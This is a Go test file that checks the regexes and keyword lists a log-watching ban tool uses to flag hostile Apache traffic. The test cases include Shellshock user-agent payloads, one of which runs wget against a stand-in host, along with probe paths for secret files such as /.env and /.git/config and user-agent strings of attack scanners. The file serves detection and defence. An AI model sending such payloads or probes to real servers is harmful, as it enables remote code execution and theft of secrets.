package config

import (
	"regexp"
	"strings"
	"testing"
)

// TestBuiltinRegexes runs the library's field regexes on real Apache text:
// what each jail must catch and what it must let through.
func TestBuiltinRegexes(t *testing.T) {
	c := mustLoad(t, "")
	field := func(j *Jail, name string) []string {
		switch name {
		case "message":
			return j.Message
		case "path":
			return j.Path
		case "user_agent":
			if re, ok := j.AnyFields[name]; ok {
				return append(j.UserAgent, re)
			}
			return j.UserAgent
		}
		t.Fatalf("no field %q", name)
		return nil
	}
	tests := []struct {
		jail, field, text string
		want              bool
	}{
		{"apache-auth", "message", `user admin: authentication failure for "/private/": Password Mismatch`, true},
		{"apache-auth", "message", `user bob not found: /private/`, true},
		{"apache-auth", "message", "Digest: user `bob' in realm `private' not found: /private/", true}, // Apache 2.2
		{"apache-auth", "message", "user `bob' in realm `private' not found: /private/", true},
		{"apache-auth", "message", `user carol: authorization failure for "/admin/": `, true},
		{"apache-auth", "message", `client denied by server configuration: /var/www/html/.htaccess`, true},
		{"apache-auth", "message", `client used wrong authentication scheme: /private/`, true},
		{"apache-auth", "message", `File does not exist: /var/www/html/favicon.ico`, false},
		{"apache-botsearch", "path", `/wp-login.php`, true},
		{"apache-botsearch", "path", `/blog/xmlrpc.php`, true},
		{"apache-botsearch", "path", `/phpMyAdmin/index.php`, true},
		{"apache-botsearch", "path", `/pma/`, true},
		{"apache-botsearch", "path", `/.env`, true},
		{"apache-botsearch", "path", `/app/.env.production`, true},
		{"apache-botsearch", "path", `/.git/config`, true},
		{"apache-botsearch", "path", `/cgi-bin/test.cgi`, true},
		{"apache-botsearch", "path", `/webmail/`, true},
		{"apache-botsearch", "path", `/environment.html`, false},
		{"apache-botsearch", "path", `/docs/gitignore.html`, false},
		{"apache-botsearch", "path", `/pmatch/`, false},
		{"apache-botsearch-error", "message", `File does not exist: /var/www/html/wp-login.php`, true},
		{"apache-botsearch-error", "message", `script '/var/www/html/xmlrpc.php' not found or unable to stat`, true},
		{"apache-shellshock", "user_agent", `() { :; }; /bin/bash -c "wget http://x"`, true},
		{"apache-shellshock", "user_agent", `() {ignored;};/bin/id`, true},
		{"apache-shellshock", "user_agent", `Mozilla/5.0 (X11; Linux x86_64)`, false},
		{"apache-overflows", "message", `request failed: URI too long (longer than 8190)`, true},
		{"apache-overflows", "message", `Invalid URI in request GET /%%% HTTP/1.1`, true},
		{"apache-overflows", "message", `Invalid method in request \x16\x03\x01`, true},
		{"apache-overflows", "message", `request failed: erroneous characters after protocol string: GET / HTTP/1.1x`, true},
		{"apache-overflows", "message", `File does not exist: /x`, false},
		{"apache-nohome", "path", `/~root/`, true},
		{"apache-nohome", "path", `/a/~b`, false},
	}
	for _, tc := range tests {
		t.Run(tc.jail+"/"+tc.text, func(t *testing.T) {
			j := c.Jails[tc.jail]
			if j == nil {
				t.Fatalf("no jail %q", tc.jail)
			}
			got := false
			for _, re := range field(j, tc.field) {
				if regexp.MustCompile(re).MatchString(tc.text) {
					got = true
				}
			}
			if got != tc.want {
				t.Errorf("%s %s matches %q = %v, want %v", tc.jail, tc.field, tc.text, got, tc.want)
			}
		})
	}
}

func TestBuiltinAgentWords(t *testing.T) {
	j := mustLoad(t, "").Jails["apache-badbots"]
	for _, tc := range []struct {
		ua   string
		want bool
	}{
		{"sqlmap/1.7.2#stable (https://sqlmap.org)", true},
		{"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)", true},
		{"Mozilla/5.0 zgrab/0.x", true},
		{"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", true},
		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36", false},
		{"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", false},
	} {
		t.Run(tc.ua, func(t *testing.T) {
			got := false
			for _, w := range j.AgentWords {
				if strings.Contains(strings.ToLower(tc.ua), strings.ToLower(w)) {
					got = true
				}
			}
			if got != tc.want {
				t.Errorf("agent_words match %q = %v, want %v", tc.ua, got, tc.want)
			}
		})
	}
}
